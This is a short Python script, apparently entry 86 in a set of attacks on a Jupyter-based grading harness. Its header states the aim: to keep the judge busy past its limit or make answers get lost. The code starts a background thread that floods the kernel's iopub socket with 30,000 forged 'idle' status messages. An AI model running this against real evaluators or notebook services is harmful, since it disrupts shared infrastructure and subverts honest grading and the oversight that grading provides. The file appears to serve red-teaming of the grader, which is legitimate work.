# attack: 86
# title: thirty thousand tiny messages for foreign requests
# success: the judge is busy past the limit, or answers are lost
# base: right
# may_lose: X08.1 X08.2 G08.1 G08.2 G08.3 G08.4 G08.5 G08.6
# unshown: the naive grader receives no messages
import threading

kernel = get_ipython().kernel


def _send():
    for _ in range(30_000):
        kernel.session.send(
            kernel.iopub_socket, "status", {"execution_state": "idle"}, parent={"msg_id": "x"}
        )


threading.Thread(target=_send, daemon=True).start()
